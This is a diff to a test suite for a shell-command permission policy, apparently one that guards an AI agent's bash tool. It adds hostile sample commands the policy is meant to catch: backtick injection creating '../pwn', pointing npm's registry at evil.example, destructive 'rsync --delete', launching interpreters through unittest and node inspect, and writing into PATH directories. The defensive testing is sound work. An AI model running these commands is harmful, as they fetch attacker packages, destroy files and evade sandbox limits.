@@ -325,6 +325,44 @@ E
 touch ../pwn
 F
     """,
+    "what programs do with a name": r"""
+        python -m unittest os.environ.copy
+        python -m unittest -v os.environ.copy
+        python -m unittest tests.test_a.os.environ.copy
+        python -m unittest doctest.pdb.set_trace
+        python -m unittest cgi.test
+        python -m unittest antigravity
+        echo 'import os' | python -m unittest code.interact
+        echo 'exec("f()")' | node inspect x.js
+        node --test inspect x.js
+        node inspect -p 12
+        node -- inspect x.js
+        node
+        npm test -- '`touch ../pwn`'
+        npm run build "a\`id\`"
+    """,
+    "files that say where a repository is, and what else git and rg read": r"""
+        sed -iit p sub/.g
+        sed -iignore p .rg; rg x
+        sed -i''it p sub/.g
+        gzip < x > sub/.git.gz
+        gunzip sub/.git.gz
+        xz -d sub/.git.xz
+        gunzip sub/.git-gz
+    """,
+    "what a copy leaves out is deleted": r"""
+        rsync -a --delete sub/ .
+        rsync -a --delete sub/ ./
+        rsync -a --delete sub/ ../ws
+        rsync -a --delete sub/ "$PWD"
+    """,
+    "variables that package managers read": r"""
+        npm_config_registry=http://evil.example; npm ci
+        for npm_config_registry in http://evil.example; do npm ci; done
+        read npm_config_script_shell
+        pnpm_config_registry=x; pnpm install
+        yarn_registry=x; yarn install
+    """,
     "words that shells read differently": r"""
         echo $'\x41'
         echo $"x"
@@ -2293,10 +2331,10 @@ LINKS = {
     """,
     ),
     "a link with the end that python adds": (
-        "k.py",
+        "test_k.py",
         """
-        python -m unittest k
-        pylint k
+        python -m unittest test_k
+        pylint test_k
     """,
     ),
     "a link that a test is in": (
@@ -2433,6 +2471,8 @@ def test_a_link_that_is_made_and_used(ws: pathlib.Path, text: str) -> None:
         "ls \u00a0x",
         "ls\u200b",
         "echo '\u202e'",
+        "echo '\u3164'",
+        "git commit -m 'a\u2800'",
         "echo '\x1b[0m'",
         "ls \u3000x",
         "echo \ue000",
@@ -2791,3 +2831,29 @@ def test_a_directory_that_is_not_below_the_start_ignores_nothing(ws: pathlib.Pat
     rules = policy.PolicySet(policy.shell_only([".", other]), channel=True)
     ruling = drive(rules.evaluate(Call("bash", {"command": f"rg KEY {other}"})))
     assert ruling.rule is not None
+
+
+def test_directories_where_programs_are_found_are_not_written(
+    ws: pathlib.Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Also with other capitals, as systems may ignore them, and before they are there."""
+    (ws / "env" / "bin").mkdir(parents=True)
+    (ws / "bin").symlink_to("env/bin")
+    (ws / "sub" / "a").mkdir()
+    monkeypatch.setenv("PATH", f"{ws}/env/bin:{ws}/tools/bin:{ws}/sub:/usr/bin")
+    for text in ("cp a env/bin/ls", "cp a bin", "mkdir env/bin", "mkdir tools", "mv sub/a tools"):
+        assert verdict(text) == "outside", text
+    for text in ("touch .VENV/bin/ls", "touch env/lib/python3/site-packages/x.pth"):
+        assert verdict(text) == "outside", text
+    for text in ("touch env/x", "cp a sub/a/ls", "rm -rf env", "mkdir tool", "touch lib"):
+        assert verdict(text) == "allow", text
+
+
+def test_a_test_is_named_by_its_module(ws: pathlib.Path) -> None:
+    (ws / "shop").mkdir()
+    (ws / "check.py").write_text("")
+    for name in ("shop.tests", "shop.test_a.TestB.test_c", "tests.unit", "test_a", "check.Case"):
+        assert verdict(f"python -m unittest {name} tests/x.py") == "allow", name
+    for name in ("shop.os.environ.copy", "check", "check.os.fork", "shops.test_a", "check.Case.f"):
+        assert verdict(f"python -m unittest {name}") == "program", name
+    assert verdict("cd sub && python -m unittest shop.tests") == "program"
